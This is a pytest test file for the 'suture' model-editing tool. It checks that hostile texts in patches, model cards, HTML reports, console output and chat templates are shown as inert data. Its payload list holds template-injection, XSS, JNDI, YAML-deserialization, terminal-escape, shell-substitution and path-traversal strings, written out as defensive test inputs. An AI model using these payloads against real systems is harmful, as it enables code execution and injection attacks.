"""R12: texts in patches and reports are data. Nothing in them is rendered, executed or obeyed, wherever they are shown."""

import io
import re
from collections import Counter
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from rich.console import Console as Rich

from checkpoint_parts import patch_of, weights, write_checkpoint
from suture.cli._console import Console
from suture.errors import CorruptFile, UsageError
from suture.export.card import Card, check
from suture.measure.report import MetricRow, Report, Sample
from suture.metrics._score import Score
from suture.patch.patch import Patch
from suture.patch.provenance import Provenance
from suture.report.page import page as page_of
from suture.text.printable import OBEYED, printable

HOSTILE = [
    "{{ 7 * 7 }}", "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{0.__class__.__init__.__globals__}",
    "{task.description}", "%(x)s %n %s", "${jndi:ldap://x.invalid/a}", "#{7*7}", "<%= 7*7 %>",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)", "</title><script>alert(1)</script>",
    "</pre></td></table><iframe src='//x.invalid'>", "--><svg onload=alert(1)>", "]]><style>*{display:none}</style>", "&lt;b&gt;",
    "[bold red]x[/bold red]", "[/x]", "[link=https://x.invalid]x[/link]", "[red", "\\[x]",
    "\x1b[2J\x1b[31m", "\x1b]0;title\x07", "\x1b]8;;https://x.invalid\x07x\x1b]8;;\x07", "\x9b31m", "a\rb", "\b\b\b", "\x00",
    "\u202egnp.exe", "\u2066x\u2069", "---\nlicense: mit\n---", "x\nbase_model: evil/model",
    "!!python/object/apply:os.system [id]",
    "&a [*a, *a]", "```\n# heading\n```", "[click](javascript:alert(1))", "![x](https://x.invalid/x.png)", "| a | b |", "<!-- x",
    "$(touch pwned)", "`touch pwned`", "; touch pwned", "../../etc/passwd",
]  # fmt: skip


def hostile_patch(text: str) -> Patch:
    """A patch that says something hostile wherever a patch can hold a text."""
    patch = patch_of(weights(), 0, ("a.weight",))
    told = {"name": text, "count": 3, "sha256": "0" * 64}
    made = Provenance(
        text, {text: text, "deep": {text: [text]}}, {"name": text, "revision": text}, {"behaviours": [told], text: text},
        {"entries": 3, text: 1.0}, [{"method": text, text: text}], {"suture": text},
    )  # fmt: skip
    return Patch({text: patch.terms["a.weight"]}, {text: patch.before["a.weight"]}, made)


class Shape(HTMLParser):
    """Counts the elements of a page and their attributes, and nothing of what stands between them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.seen: Counter[tuple[str, ...]] = Counter()
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.seen[(tag, *(name for name, _ in attrs))] += 1

    def handle_comment(self, data):
        self.seen["comment",] += 1


@pytest.mark.parametrize("text", HOSTILE)
def test_the_command_line_shows_it_and_obeys_nothing(command, tmp_path, text):
    hostile_patch(text).save(tmp_path / "p.safetensors")
    done = command("show", "p.safetensors", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert not OBEYED.search(done.stdout)
    assert printable(f"setting   {text} = {text}") in done.stdout
    assert done.stdout.count(printable(text.split()[0])) >= 5
    assert command("show", "p.safetensors", "--json", cwd=tmp_path).json["provenance"]["method"] == text


@pytest.mark.parametrize("text", HOSTILE)
def test_an_error_names_it_and_obeys_nothing(command, tmp_path, text):
    write_checkpoint(tmp_path / "base", weights())
    hostile_patch(text).save(tmp_path / "p.safetensors")
    done = command("apply", "base", "p.safetensors", "-o", "out", cwd=tmp_path)
    assert done.returncode == 5
    assert not OBEYED.search(done.stderr)
    assert printable(text.split("\n")[0]) in done.stderr
    assert {file.name for file in tmp_path.iterdir()} == {"base", "p.safetensors"}


@pytest.mark.parametrize("text", HOSTILE)
def test_progress_and_tables_take_it_as_it_is(text):
    screen = io.StringIO()
    console = Console(screen=Rich(file=screen, force_terminal=True, width=200, color_system=None, highlight=False))
    with console.progress(text) as step:
        step(text, 1, 2)
    said = io.StringIO()
    console.out = Rich(file=said, width=200)
    console.table([text, "n"], [[text, "1"]], text)
    console.columns({text: text})
    assert not OBEYED.search(said.getvalue())
    assert said.getvalue().count(printable(text.split("\n")[0])) >= 5
    assert "\x1b]" not in screen.getvalue()  # rich moves the cursor itself, but sets no title and no link
    assert "\x1b[2J" not in screen.getvalue()


@pytest.mark.parametrize("text", HOSTILE)
def test_a_model_card_holds_it_as_text(tmp_path, text):
    plain, card = (Card(commands=[word]).text(hostile_patch(word)) for word in ("harmless", text))
    assert len(card.splitlines()) == len(plain.splitlines())
    assert not OBEYED.search(card)
    plain, card = (re.sub(r"(?s)```.*?\n```", "", word.partition("\n---\n")[2]) for word in (plain, card))  # no code
    assert Shape(card).seen == Shape(plain).seen
    assert "](" not in card
    assert "`" not in re.sub(r"`[^`\n]+`", "", card)
    front = check(Card().export(hostile_patch(text), tmp_path).path)
    assert front.keys() == check(Card().export(hostile_patch("harmless"), tmp_path).path).keys()
    assert front["tags"][:2] == ["suture", "model-editing"]
    assert all(isinstance(tag, str) for tag in front["tags"])


def page(text: str) -> str:
    score = Score(0.8, 0.2, -0.6, -0.7, -0.5, 80)
    lines = [
        MetricRow(text, role, "lower", text, score, samples=[Sample(text, text, text, text, text)])
        for role in ("target", "keep", "note")
    ]
    edits = [{"prompt": text, "target": text, "before": text, "after": text, "right": True}]
    return page_of(Report(
        text, text, {text: text}, {"entries": 1}, lines, extra={"edits": edits}, commands=[text],
        doses={0.0: {text: 0.8}, 1.0: {text: 0.2}}, target=text, strength=1.0, curve={1: {text: 1.0}, 2: {text: 0.5}},
    ))  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_a_report_is_the_same_page_whatever_its_texts_say(text):
    assert Shape(page(text)).seen == Shape(page("harmless")).seen


def test_halves_of_characters_are_no_provenance(tmp_path):
    patch = patch_of(weights(), 0, ("a.weight",))
    replace(patch, provenance=replace(patch.provenance, method="\ud800")).save(tmp_path / "p")
    with pytest.raises(CorruptFile):
        Patch.load(tmp_path / "p")


@pytest.mark.parametrize(
    "wrong",
    [
        {"effect": {"entries": "7"}}, {"base": {"name": 7}}, {"library": {"suture": None}}, {"parents": ["x"]},
        {"examples": {"behaviours": [{"name": "x"}]}}, {"examples": {"behaviours": 3}}, {"examples": {"facts": [1]}},
        {"examples": {"behaviours": [{"name": 1, "count": 1, "sha256": "x"}]}}, {"effect": {"entries": True}},
    ],
)  # fmt: skip
def test_a_provenance_of_other_types_is_refused_not_printed(tmp_path, wrong):
    patch = patch_of(weights(), 0, ("a.weight",))
    replace(patch, provenance=replace(patch.provenance, **wrong)).save(tmp_path / "p")
    with pytest.raises(CorruptFile):
        Patch.load(tmp_path / "p")


def test_what_is_said_in_a_conversation_is_no_template(patient):
    said = patient.encode_messages([{"role": "user", "content": "{{ 7 * 7 }} and {% raw %}"}])
    other = patient.encode_messages([{"role": "user", "content": "49 and "}])
    assert said != other
    assert "7 * 7" in patient.tokenizer.decode(said)


@pytest.mark.parametrize(
    "template",
    ["{{ ().__class__.__base__.__subclasses__() }}", "{{ messages.__class__.__init__.__globals__ }}", "{{ messages.append(1) }}"],
)  # fmt: skip
def test_the_template_of_a_model_reaches_nothing_but_the_messages(patient, monkeypatch, template):
    monkeypatch.setattr(patient.tokenizer, "chat_template", template)
    with pytest.raises(UsageError, match="template"):
        patient.encode_messages([{"role": "user", "content": "x"}])
